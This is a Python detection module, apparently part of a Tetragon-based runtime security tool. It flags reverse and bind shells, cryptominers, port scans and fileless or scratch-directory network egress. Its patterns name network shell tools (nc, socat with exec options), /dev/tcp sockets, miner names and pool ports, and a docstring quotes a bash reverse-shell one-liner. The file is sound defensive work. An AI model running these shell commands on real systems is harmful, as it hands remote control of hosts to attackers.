"""What in a connection is worth a look: who makes it, where it goes, and where its maker comes from."""

import re
from collections.abc import Iterator, Sequence
from functools import lru_cache
from typing import Final

import msgspec

from schemas.ancestry.descent import descent
from schemas.finding import Finding
from schemas.lineage import Above, Execution, Lineage, basename
from schemas.net.zones import EXTERNAL
from schemas.operation.shape import Socket
from schemas.places import SCRATCH, is_anybodys, is_stray
from schemas.programs import BUILDERS, SHELLS, is_interpreter, is_server

RULES: Final = (
    "network.bind_shell",
    "network.fileless_egress",
    "network.host_sweep",
    "network.miner",
    "network.port_scan",
    "network.reverse_shell",
    "network.scratch_egress",
    "network.shell_egress",
    "network.ssh_port",
)

_LOOPBACK: Final = ("loopback", None)
_WITHIN: Final = ("loopback", "node", "pod", "service", None)  # of the node and of the cluster
_FAR: Final = 8  # ancestors between a server and what somebody got it to run
_SESSIONS: Final = frozenset(("sshd", "ssm", "teleport", "terminal"))

# They carry what a shell says to somebody else.
_RELAYS: Final = frozenset(("nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "openssl", "socat", "telnet"))
_LISTENERS: Final = _RELAYS - {"openssl", "telnet"}
_RUNNING: Final = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")  # of nc and its like: a program for whoever comes
_RUNNING_ADDRESSES: Final = ("exec:", "shell:", "system:")  # of socat
# They stand between a shell and what it runs, and are neither.
_WRAPPERS: Final = frozenset(("env", "nohup", "script", "setsid", "stdbuf", "timeout", "xargs"))
# What makes an interpreter run a text of its command line; the last letter of a group of options.
_INLINE: Final = {"lua": "e", "node": "ep", "perl": "eE", "php": "r", "python": "c", "ruby": "e", "tclsh": ""}
_INLINE_LONG: Final = ("--eval", "--print", "--run")

# bash's own socket, and a shell to type into.
_SOCKETS: Final = ("/dev/tcp/", "/dev/udp/")
_TYPED: Final = re.compile(r"(?:^|[\s\"'/;&|(])(?:ba|da|k|z)?sh\s+-[a-z]*i\b|^-[a-z]*i\b|(?<!\d)0[<>]&\d")

_SPAWNED: Final = "from multiprocessing."  # Python's own way to begin another of itself

# Ports of pools that many public lists name; some of them have honest uses, too.
_MINING_PORTS: Final = frozenset((3333, 3357, 4444, 5555, 6633, 7777, 9999, 14433, 14444, 45560, 45700))
_MINERS: Final = ("ccminer", "cgminer", "cpuminer", "ethminer", "kdevtmpfsi", "kinsing", "lolminer", "minerd",
                  "nbminer", "xmr-stak", "xmrig")  # fmt: skip
_MINING_WORDS: Final = ("stratum+", "--donate-level", "--rig-id")

# They connect to wherever others ask them to, or look whether all is well there.
_FORWARDERS: Final = frozenset(
    ("blackbox-exporter", "blackbox_exporter", "caddy", "cilium-envoy", "envoy", "haproxy", "kube-proxy", "kubelet",
     "linkerd2-proxy", "nginx", "pilot-agent", "squid", "traefik", "ztunnel")
)  # fmt: skip
# What a server of a language runs of the same language is its own, mostly.
_LANGUAGES: Final = (("gunicorn", "python"), ("php-fpm", "php"), ("uwsgi", "python"))

_SSH: Final = frozenset(("dbclient", "ssh"))
# What ssh asks before it connects: names, tickets, users.
_ASKING_PORTS: Final = frozenset((53, 88, 389, 464, 636))
_DNS: Final = 53

_NAMELESS: Final = ("memfd:", "/memfd:", "/dev/fd/", "/proc/")
_ONESELF: Final = ("/proc/self/exe", "/proc/thread-self/exe")  # container runtimes run themselves so

_MAKER: Final = ("process.executable", "process.args")
_GOAL: Final = ("destination.ip", "destination.port")
_ORIGIN: Final = "tetragon.lineage.names"


class Character(msgspec.Struct, frozen=True, gc=False):
    """What a program's name and place say of it."""

    name: str
    shell: bool
    interpreter: str  # its name without a version; empty for none
    relay: bool
    ssh: bool
    miner: bool
    scratch: bool  # where anybody may write, or a hidden file
    fileless: bool

    @property
    def is_plain(self) -> bool:
        told = (self.shell, self.interpreter, self.relay, self.ssh, self.miner, self.scratch, self.fileless)
        return not any(told)


@lru_cache(maxsize=4096)
def character(binary: str) -> Character:
    name = basename(binary)
    stem = name.rstrip("0123456789.")
    return Character(
        name=name,
        shell=name in SHELLS,
        interpreter=stem if stem in _INLINE and is_interpreter(name) else "",
        relay=name in _RELAYS,
        ssh=name in _SSH,
        miner=name.lower().startswith(_MINERS),
        scratch=is_stray(binary),
        fileless=binary.startswith(_NAMELESS) and binary not in _ONESELF,
    )


def of_egress(
    socket: Socket, transport: str, zone: str | None, lineage: Lineage, *, installing: bool
) -> Iterator[Finding]:
    """A connection from here that begins. `installing`: a package manager is at work."""
    process = lineage.process
    who = character(process.binary)
    says_so = any(word in process.arguments for word in _MINING_WORDS)
    if zone in _LOOPBACK or (who.is_plain and not says_so and not _may_mine(socket, zone)):
        return
    if socket.remote_port == _DNS and transport == "udp":
        return  # whoever looks up a name
    where = f"[{socket.remote}]" if ":" in socket.remote else socket.remote
    where = f"{where}:{socket.remote_port}" if socket.remote_port is not None else where
    goal = _GOAL if socket.remote_port is not None else _GOAL[:1]
    yield from _shells(process, who, where, goal, zone, lineage.above, installing=installing)
    parent = lineage.parent
    built = parent is not None and parent.name in BUILDERS and not is_anybodys(parent.binary)
    yield from _strangers(who, where, goal, zone, installing=installing, built=built)
    if who.miner or says_so:
        reason = f"{who.name} {'is told to mine' if says_so else 'is a miner by its name'}, at {where}"
        yield Finding("network.miner", 3, reason, (*_MAKER, *goal), ("T1496",))
    elif _may_mine(socket, zone):
        reason = f"{where} has a port of mining pools"
        yield Finding("network.miner", 2, reason, (*goal, "tetragon.network.zone"), ("T1496",))
    if who.ssh and socket.remote_port not in (None, 22) and socket.remote_port not in _ASKING_PORTS:
        yield Finding(
            "network.ssh_port", 2, f"{who.name} to {where}: not ssh's port", ("process.name", *goal), ("T1571",)
        )


def may_hand_over(process: Execution) -> bool:
    """An interpreter with a text of its own: it may give a shell to whom it talks to."""
    interpreter = character(process.binary).interpreter
    return interpreter != "" and (len(process.args) == 1 or _is_inline(interpreter, process.args))


def of_handing_over(process: Execution, by: str, what: str, rule: str) -> Finding:
    """`by` is who did `what`, and became or started the shell that `process` is."""
    reason = f"{by}, which {what}, started {process.name}"
    return Finding(rule, 4, reason, ("process.executable", _ORIGIN), ("T1059.004",))


def of_listening(socket: Socket, zone: str | None, process: Execution) -> Iterator[Finding]:
    """`zone` is this end's."""
    who = character(process.binary)
    if not who.shell and who.name not in _LISTENERS:
        return
    runs = who.shell or _runs_a_program(process.args)
    severity = (4 if runs else 3) - (zone == "loopback")
    place = f"port {socket.local_port}" if socket.local_port is not None else "a port"
    fields = (*_MAKER, *(("destination.port",) if socket.local_port is not None else ()))
    yield Finding("network.bind_shell", severity, f"{who.name} listens on {place}", fields, ("T1059.004",))


def of_spread(what: str, process: Execution) -> Finding:
    """`what` is ports or hosts, of which the process connected to very many."""
    who = character(process.binary)
    if what == "ports":
        reason = f"{who.name} connects to very many ports within a minute"
        severity = 2 if who.name in _FORWARDERS else 3
        return Finding("network.port_scan", severity, reason, ("process.executable", "destination.port"), ("T1046",))
    # So does whoever watches or serves a whole cluster.
    severity = 3 if who.shell or who.interpreter or who.relay or who.scratch or who.fileless else 2
    reason = f"{who.name} connects to very many hosts within a minute"
    return Finding("network.host_sweep", severity, reason, ("process.executable", "destination.ip"), ("T1046",))


def _shells(
    process: Execution,
    who: Character,
    where: str,
    goal: Sequence[str],
    zone: str | None,
    above: Above,
    *,
    installing: bool,
) -> Iterator[Finding]:
    if not (who.shell or who.interpreter or who.relay):
        return
    if who.relay and _runs_a_program(process.args):
        reason = f"{who.name} gives a program to {where}"
        yield Finding("network.reverse_shell", 4, reason, (*_MAKER, *goal), ("T1059.004",))
        return
    if who.shell and _gives_itself(process.arguments):
        reason = f"{who.name} gives itself to {where}"
        yield Finding("network.reverse_shell", 4, reason, (*_MAKER, *goal), ("T1059.004",))
        return
    if zone != EXTERNAL:
        return
    server = _server_above(above, process.container)
    if server and not installing and not (who.name == "openssl" and "s_client" not in process.args):
        severity = _of_servers_child(process, who, server)
        if severity:
            reason = f"{who.name} below {server} connects to {where}"
            fields = (*_MAKER, *goal, _ORIGIN, "tetragon.network.zone")
            technique = "T1059.006" if who.interpreter == "python" else "T1059.004"
            yield Finding("network.reverse_shell", severity, reason, fields, (technique,))
    elif who.shell and not installing:
        # A shell has others do such things. By itself it does so for /dev/tcp.
        from_scratch = _is_of_scratch(process)
        reason = f"{who.name} itself connects to {where}"
        yield Finding(
            "network.shell_egress",
            3 if from_scratch else 2,
            f"{reason}, from where anybody may write" if from_scratch else reason,
            (*_MAKER, *goal, "tetragon.network.zone"),
            ("T1059.004",),
        )


def _of_servers_child(process: Execution, who: Character, server: str) -> int:
    """0 for what a server starts of itself: its own program again, with a file to run."""
    args = process.args
    if not who.interpreter:
        return 4
    if _is_inline(who.interpreter, args):
        return 2 if _SPAWNED in process.arguments else 4
    if who.name == server:
        return 0
    if len(args) == 1 or any(each.startswith(SCRATCH) for each in args[1:]):
        return 4
    if any(server.startswith(family) and who.interpreter == language for family, language in _LANGUAGES):
        return 2
    return 2 if is_interpreter(server) else 3  # java and node run builds and jobs, which run programs of their own


def _strangers(
    who: Character, where: str, goal: Sequence[str], zone: str | None, *, installing: bool, built: bool
) -> Iterator[Finding]:
    """Programs that lie where none should."""
    is_external = zone == EXTERNAL
    if who.fileless:
        reason = f"A program without a file, {who.name}, connects to {where}"
        fields = ("process.executable", *goal, "tetragon.network.zone")
        yield Finding("network.fileless_egress", 4 if is_external else 3, reason, fields, ("T1620",))
    elif who.scratch and not installing and zone not in _WITHIN:
        reason = f"{who.name}, which lies where anybody may write, connects to {where}"
        fields = ("process.executable", *goal, "tetragon.network.zone")
        yield Finding("network.scratch_egress", 3 if is_external and not built else 2, reason, fields, ("T1071",))


def _may_mine(socket: Socket, zone: str | None) -> bool:
    return zone == EXTERNAL and socket.remote_port in _MINING_PORTS


@lru_cache(maxsize=4096)
def _server_above(above: Above, container: str) -> str:
    """The name of the server that a process descends from by nothing but shells and their like; empty if none."""
    for each in above.ancestors[:_FAR]:
        name = each.name
        if is_server(name):
            # Somebody who logged in works with java and node, too.
            entry = descent(above, container).entry if is_interpreter(name) else None
            return "" if entry is not None and entry.type in _SESSIONS else name
        who = character(each.binary)
        if not (who.shell or who.interpreter or who.relay or who.scratch or name in _WRAPPERS):
            return ""
    return ""


def _is_inline(interpreter: str, args: Sequence[str]) -> bool:
    for each in args[1:]:
        if not each.startswith("-") or each == "-":
            return each == "-"
        if each.startswith("--"):
            if each.startswith(_INLINE_LONG):
                return True
        elif each[-1] in _INLINE[interpreter]:
            return True
    return False


def _runs_a_program(args: Sequence[str]) -> bool:
    """nc -e and its like; many programs besides have such options."""
    name, rest = args[0], args[1:]
    if name == "socat":
        return any(each.lower().startswith(_RUNNING_ADDRESSES) for each in rest)
    return name in _LISTENERS and any(
        each in _RUNNING or (each.startswith("-") and not each.startswith("--") and each.endswith("e")) for each in rest
    )


def _gives_itself(arguments: str) -> bool:
    """Of a shell: what it reads and writes goes over its own socket, as in `bash -i >& /dev/tcp/host/port 0>&1`."""
    return any(each in arguments for each in _SOCKETS) and _TYPED.search(arguments) is not None


def _is_of_scratch(process: Execution) -> bool:
    """The shell itself, its folder, or the script that it runs."""
    places = (process.binary, f"{process.cwd}/", *process.args[1:3])
    return any(each.startswith(SCRATCH) for each in places)
